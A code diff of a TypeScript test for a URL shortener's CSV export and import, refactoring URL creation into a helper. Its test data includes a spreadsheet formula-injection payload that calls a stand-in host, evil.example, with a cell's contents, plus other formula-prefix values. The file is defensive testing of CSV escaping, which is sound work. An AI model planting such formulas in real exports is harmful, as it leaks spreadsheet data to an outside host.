@@ -10,6 +10,7 @@ import yourlsCsv from "../fixtures/imports/yourls.csv?raw";
 import {
   callApi,
   callWorker,
+  createUrl,
   createUser,
   keyedUser,
   openTestDatabase,
@@ -268,10 +269,7 @@ async function callWorkerCsv(query: string, csv: string, key: string, overrides:
 describe("export, then import", () => {
   it("re-imports everything an export holds: hostile text, tags, times, settings and clicks", async () => {
     const owner = (await createUser()).id;
-    const make = (fields: Record<string, unknown>) =>
-      callApi("POST", "/urls", {
-        body: { original_url: `https://example.com/${unique("r")}`, user_id: owner, ...fields },
-      });
+    const make = (fields: Record<string, unknown>) => createUrl({ user_id: owner, ...fields });
     const inAYear = new Date(Date.now() + 365 * 86_400_000).toISOString();
     await make({ title: '=HYPERLINK("http://evil.example/?x="&A1,"Click")', tags: ['a,"b"', "-minus"] });
     await make({ title: "'=already quoted", tags: ["@at"] });
